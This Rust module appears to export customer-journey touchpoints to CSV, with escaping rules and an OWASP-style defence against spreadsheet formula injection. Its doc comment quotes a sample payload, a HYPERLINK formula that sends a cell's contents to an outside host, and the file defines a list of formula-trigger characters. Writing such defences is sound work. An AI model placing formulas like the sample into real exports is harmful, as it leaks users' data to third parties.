//! CSV: one row per touchpoint, for spreadsheets and for reading back.
//!
//! The columns are [`COLUMNS`], always in that order, with a header row.
//! Quoting follows RFC 4180 (fields with `"`, `,` or line breaks are
//! quoted, `"` doubled; lines end in CRLF). List cells join their items
//! with `; `; inside an item `\` is written `\\` and `;` is written `\;`,
//! so that every list splits back exactly. A KPI is
//! `name:target:unit` with `:` inside a part written `\:`; a KPI with an
//! id adds it as a fourth part (`name:target:unit:id`). Whitespace at the
//! start or end of a list item or KPI part is part of the text: it gets a
//! backslash too (`\ `), so that it is not taken for the space after `;`.
//! Each persona's own scores are one item of `persona_scores`,
//! `persona:expectation:experience:target:feeling`, escaped like a KPI.
//!
//! Formula injection: a spreadsheet runs a cell that starts with `=`, `+`,
//! `-`, `@`, a tab or a carriage return as a formula
//! (`=HYPERLINK("http://…?d="&B2,"Open")`). Such a cell is written with a
//! `'` in front, as OWASP recommends, and so is a cell that starts with
//! `'` itself; `journeyc import csv` removes exactly one leading `'` from
//! every cell, so texts come back exactly ([`neutralise`]). The score
//! columns hold numbers, which are written as they are.

use crate::doc::{format_number, Document, Kpi, PersonaScores, Phase, Touchpoint};

/// The columns, in order. Documented in the README; `journeyc import csv`
/// reads these names, and their German headers
/// ([`journey_l10n::column_header`]): the header row is written in the
/// export's language.
pub const COLUMNS: &[&str] = &[
    "journey",
    "phase_id",
    "phase_title",
    "phase_kind",
    "touchpoint_id",
    "touchpoint_title",
    "channel",
    "presence",
    "owner",
    "systems",
    "kpis",
    "serves",
    "copy",
    "evidence",
    "disclaimers",
    "expectation",
    "experience",
    "importance",
    "monitored",
    "state",
    "moment",
    "collects",
    "basis",
    "description",
    "allows",
    "target_experience",
    "wow",
    "cost",
    "currency",
    "next",
    "persona_scores",
];

/// Escapes `s` for a place in a cell where `specials` separate: each of
/// them and `\` get a backslash, and so does whitespace at either end
/// (which the reader would trim otherwise).
fn escape(s: &str, specials: &[char]) -> String {
    let mut out = String::with_capacity(s.len());
    let last = s.chars().count().saturating_sub(1);
    for (i, c) in s.chars().enumerate() {
        if c == '\\' || specials.contains(&c) || (c.is_whitespace() && (i == 0 || i == last)) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Escapes one list item: `\`, `;` and whitespace at its ends get a
/// backslash.
fn item(s: &str) -> String {
    escape(s, &[';'])
}

/// Escapes one part of a KPI: `\`, `;`, `:` and whitespace at its ends
/// get a backslash.
fn part(s: &str) -> String {
    escape(s, &[';', ':'])
}

/// The characters that make a spreadsheet read a cell as a formula (and
/// `'`, the mark this writer puts before such a cell).
pub const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\''];

/// Columns that hold numbers: a number there is written as it is.
const NUMERIC: &[&str] = &["expectation", "experience", "target_experience", "cost"];

/// A cell as written: with a `'` in front when it starts with one of
/// [`FORMULA_TRIGGERS`], so that no spreadsheet runs it as a formula.
/// [`restore`] undoes exactly that. A number in a numeric column is left
/// as it is (`-1` is a number, not a formula).
pub fn neutralise(cell: String, column: &str) -> String {
    if NUMERIC.contains(&column) && is_number(&cell) {
        return cell;
    }
    if cell.starts_with(FORMULA_TRIGGERS) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// The text of a cell [`neutralise`] wrote: without one leading `'`.
pub fn restore(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// `-`? digits, optionally `.` digits.
fn is_number(s: &str) -> bool {
    let s = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

fn list<S: AsRef<str>>(items: &[S]) -> String {
    items
        .iter()
        .map(|s| item(s.as_ref()))
        .collect::<Vec<_>>()
        .join("; ")
}

fn kpi(k: &Kpi) -> String {
    let mut s = format!(
        "{}:{}:{}",
        part(&k.name),
        k.target
            .as_ref()
            .map(|t| part(&t.display()))
            .unwrap_or_default(),
        k.unit.as_deref().map(part).unwrap_or_default()
    );
    if let Some(id) = &k.id {
        s.push(':');
        s.push_str(&part(id));
    }
    s
}

fn score(s: Option<f64>) -> String {
    s.map(format_number).unwrap_or_default()
}

fn yes_no(b: Option<bool>) -> String {
    match b {
        Some(true) => "yes".into(),
        Some(false) => "no".into(),
        None => String::new(),
    }
}

fn row(journey: &str, phase: &Phase, t: &Touchpoint) -> Vec<String> {
    cells(journey, phase, t)
        .into_iter()
        .zip(COLUMNS)
        .map(|(cell, column)| neutralise(cell, column))
        .collect()
}

/// The cells of a row, in the order of [`COLUMNS`].
fn cells(journey: &str, phase: &Phase, t: &Touchpoint) -> Vec<String> {
    let opt = |s: &Option<String>| s.clone().unwrap_or_default();
    vec![
        journey.to_string(),
        phase.id.clone(),
        opt(&phase.title),
        opt(&phase.kind),
        t.id.clone(),
        opt(&t.title),
        opt(&t.channel),
        opt(&t.presence),
        opt(&t.owner),
        list(&t.systems),
        t.kpis.iter().map(kpi).collect::<Vec<_>>().join("; "),
        list(&t.serves),
        list(&t.says),
        list(&t.evidence),
        list(&t.disclaimers),
        score(t.expectation),
        score(t.experience),
        opt(&t.importance),
        yes_no(t.monitored),
        t.state.clone(),
        if t.moment {
            t.moment_note.clone().unwrap_or_else(|| "yes".into())
        } else {
            String::new()
        },
        list(&t.collects),
        opt(&t.basis),
        opt(&t.description),
        t.allows
            .iter()
            .map(|a| {
                format!(
                    "{}:{}",
                    part(&a.check),
                    a.reason.as_deref().map(part).unwrap_or_default()
                )
            })
            .collect::<Vec<_>>()
            .join("; "),
        score(t.target_experience),
        if t.wow {
            t.wow_note.clone().unwrap_or_else(|| "yes".into())
        } else {
            String::new()
        },
        t.cost
            .as_ref()
            .map(|c| format_number(c.amount))
            .unwrap_or_default(),
        t.cost
            .as_ref()
            .map(|c| c.currency.clone())
            .unwrap_or_default(),
        list(&t.next),
        t.persona_scores
            .iter()
            .map(persona_scores)
            .collect::<Vec<_>>()
            .join("; "),
    ]
}

/// `persona:expectation:experience:target:feeling`, empty parts at the
/// end left out (`anna:4:2`).
fn persona_scores(p: &PersonaScores) -> String {
    let mut parts = vec![
        part(&p.persona),
        score(p.expectation),
        score(p.experience),
        score(p.target),
        p.feeling.as_deref().map(part).unwrap_or_default(),
    ];
    while parts.len() > 1 && parts.last().is_some_and(String::is_empty) {
        parts.pop();
    }
    parts.join(":")
}

/// The CSV text of the document with the header row in English, the
/// column names themselves (what tools that read the table expect).
pub fn render(doc: &Document) -> String {
    render_with(
        doc,
        &crate::Options {
            lang: Some(journey_l10n::Lang::En),
            ..Default::default()
        },
    )
}

/// The CSV text of the document, its header row in the options' language.
pub fn render_with(doc: &Document, options: &crate::Options) -> String {
    let lang = options.lang_for(doc);
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(Vec::new());
    // Writing into memory cannot fail.
    let _ = w.write_record(COLUMNS.iter().map(|c| journey_l10n::column_header(lang, c)));
    let mut listed = std::collections::HashSet::new();
    for j in &doc.journeys {
        for phase in doc.journey_phases(j) {
            listed.insert(phase.id.as_str());
            for t in &phase.touchpoints {
                let _ = w.write_record(row(&j.id, phase, t));
            }
        }
    }
    for phase in doc
        .phases
        .iter()
        .filter(|p| !listed.contains(p.id.as_str()))
    {
        for t in &phase.touchpoints {
            let _ = w.write_record(row("", phase, t));
        }
    }
    let bytes = w.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}
